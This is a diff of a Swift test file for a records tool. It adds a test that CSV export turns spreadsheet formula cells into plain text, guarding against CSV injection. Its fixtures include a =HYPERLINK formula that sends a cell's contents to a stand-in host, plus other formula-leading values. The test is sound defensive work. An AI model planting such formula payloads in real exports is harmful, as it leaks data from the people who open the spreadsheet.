@@ -107,7 +107,25 @@ import Testing
         let tricky = try node.succeed(["record", "add", "person", "--group", "region", "--set", "family_name=O\"Brien, Jr", "--set", "aliases=a\nb"])
         let plain = try node.succeed(["record", "add", "vehicle", "--group", "region", "--set", "plate=SK 123 AB"])
         _ = try node.succeed(["record", "add", "person", "--group", "mk-rs", "--set", "family_name=Elsewhere"])
+        // Cells a spreadsheet would evaluate (OWASP's CSV injection).
+        let formulas = [
+            "family_name": "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")", "given_name": "+1+1", "birth_place": "@SUM(A1:A9)",
+            "reason": "-2+3",
+        ]
+        let formulaRecord = try node.succeed(
+            ["record", "add", "person", "--group", "region"] + formulas.sorted(by: { $0.key < $1.key }).flatMap { ["--set", "\($0.key)=\($0.value)"] })
         let csv = try node.succeed(["record", "export", "--group", "region", "--format", "csv"])
+        #expect(csv.contains("\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"open\"\")\""), "a formula is written as text")
+        for text in ["'+1+1", "'@SUM(A1:A9)", "'-2+3"] {
+            #expect(csv.contains(",\(text),") || csv.contains(",\(text)\r\n"), "\(text) is not in \(csv)")
+        }
+        for value in formulas.values {
+            #expect(!csv.contains("," + value), "\(value) reached the CSV as a formula")
+        }
+        let json = try node.succeed(["record", "export", "--group", "region", "--format", "json"])
+        let exported = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [[String: Any]])
+        let formulaFields = try #require(exported.first { $0["id"] as? String == formulaRecord }?["fields"] as? [String: String])
+        #expect(formulas.allSatisfy { formulaFields[$0.key] == $0.value }, "JSON export keeps every value as it is")
         let lines = csv.components(separatedBy: "\r\n")
         #expect(lines.first?.hasPrefix("kind,id,group,origin,created_at,family_name,given_name") == true)
         #expect(csv.contains("person,\(tricky),region,mk-tabanovce,"))
@@ -118,11 +136,11 @@ import Testing
 
         let out = node.directory.path("region.json")
         let written = try node.run(["record", "export", "--group", "region", "--format", "json", "--out", out, "--purpose", "hand-over 17"])
-        #expect(written.status == 0 && written.error.contains("exported 2 records of group region to \(out)"))
+        #expect(written.status == 0 && written.error.contains("exported 3 records of group region to \(out)"))
         let attributes = try FileManager.default.attributesOfItem(atPath: out)
         #expect((attributes[.posixPermissions] as? NSNumber)?.intValue == 0o600)
         let records = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: out))) as? [[String: Any]])
-        #expect(Set(records.compactMap { $0["id"] as? String }) == [tricky, plain])
+        #expect(Set(records.compactMap { $0["id"] as? String }) == [tricky, plain, formulaRecord])
         #expect(
             try node.refusal(["record", "export", "--group", "region", "--format", "json", "--out", out]) == "Error: \(out) already exists; choose a new file")
         #expect(try node.refusal(["record", "export", "--group", "region", "--format", "xml"]) == "Error: --format must be json or csv, not xml")
@@ -133,9 +151,9 @@ import Testing
         let audit = try node.succeed(["audit", "list", "--json"])
         let entries = try #require(try JSONSerialization.jsonObject(with: Data(audit.utf8)) as? [[String: Any]])
         let exports = entries.filter { $0["action"] as? String == "export" }
-        #expect(exports.count == 2)
+        #expect(exports.count == 3, "the CSV, the JSON on stdout and the JSON file")
         #expect(exports.last?["purpose"] as? String == "hand-over 17")
-        #expect(Set(exports.last?["records"] as? [String] ?? []) == [tricky, plain])
+        #expect(Set(try #require(exports.last?["records"] as? [String])) == [tricky, plain, formulaRecord])
     }
 
     @Test func auditVerifyNamesTheEditedEntryAndExitsNonZero() throws {
